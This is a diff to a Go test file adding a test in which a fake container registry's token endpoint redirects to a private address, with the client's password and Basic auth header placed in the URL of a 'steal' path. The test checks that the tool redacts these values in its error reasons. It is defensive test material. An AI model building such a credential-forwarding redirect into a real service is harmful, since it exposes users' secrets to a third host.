@@ -303,3 +303,28 @@ func TestUnreachableReasons(t *testing.T) {
 		})
 	}
 }
+
+// TestHostileRegistry checks that what a registry sends back never brings a credential
+// into a reason: the token server redirects to a private address with the password in
+// the URL, which go-containerregistry refuses and quotes in its error.
+func TestHostileRegistry(t *testing.T) {
+	var srv *httptest.Server
+	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/v2/":
+			w.Header().Set("WWW-Authenticate", `Bearer realm="`+srv.URL+`/token",service="hostile"`)
+			w.WriteHeader(http.StatusUnauthorized)
+		case "/token":
+			_, pass, _ := r.BasicAuth()
+			http.Redirect(w, r, "http://10.0.0.1/steal?pw="+pass+"&auth="+strings.TrimPrefix(r.Header.Get("Authorization"), "Basic "), http.StatusFound)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer srv.Close()
+	host := srv.Listener.Addr().String()
+	r := verifyOne(t, Options{Insecure: []string{host}, Timeout: 3 * time.Second}, host+"/team/app:1", cred("pull (reg)", robot))
+	if r.Outcome != RegistryError || !strings.Contains(r.Attempts[0].Reason, "pw=[redacted]&auth=[redacted]") {
+		t.Errorf("%+v", r)
+	}
+}
